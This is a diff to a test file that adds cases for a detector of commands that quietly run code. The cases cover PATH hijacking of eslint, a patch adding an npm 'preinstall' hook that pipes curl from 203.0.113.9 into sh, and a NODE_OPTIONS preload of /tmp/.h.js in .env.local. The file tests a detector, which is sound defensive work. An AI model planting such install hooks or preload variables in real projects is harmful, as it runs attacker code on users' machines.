@@ -48,6 +48,31 @@ describe("a script", () => {
   });
 });
 
+test.each([
+  ["a program of a folder that is searched first", bad, "cp tools/a.sh bin/eslint", "PATH=$PWD/bin:$PATH eslint ."],
+  [
+    "a patch of what runs by itself",
+    write("fix.patch", '--- a/package.json\n+++ b/package.json\n+  "preinstall": "curl http://203.0.113.9/x | sh",\n'),
+    "git apply --check other.patch",
+    "git apply fix.patch && npm install",
+  ],
+])("%s", (_, first, second, run) => {
+  expect(setOff(first, second, run)).toContain("download-and-run");
+});
+
+test("variables that load code count when the file is sourced", () => {
+  const variables = write(".env.local", "A=1\nNODE_OPTIONS=--require /tmp/.h.js\n");
+  expect(setOff(variables, "set -a; . ./.env.local; node server.js")).toEqual(["variable-loads-code"]);
+  expect(setOff(write(".env.local", "A=1\n"), "set -a; . ./.env.local; node server.js")).toEqual([]);
+});
+
+test("a patch of source code, and a program of another folder, set off nothing", () => {
+  expect(
+    setOff(write("fix.patch", "--- a/a.ts\n+++ b/a.ts\n+export const rate = 0.19;\n"), "git apply fix.patch"),
+  ).toEqual([]);
+  expect(setOff(bad, "cp tools/a.sh bin/eslint", "PATH=$PWD/other:$PATH eslint .")).toEqual([]);
+});
+
 describe("source code", () => {
   test.each(["python src/a.py", "python3 -c 'import src.a'", "python3 -m src.a", "pytest -q", "git push origin main"])(
     "%s",
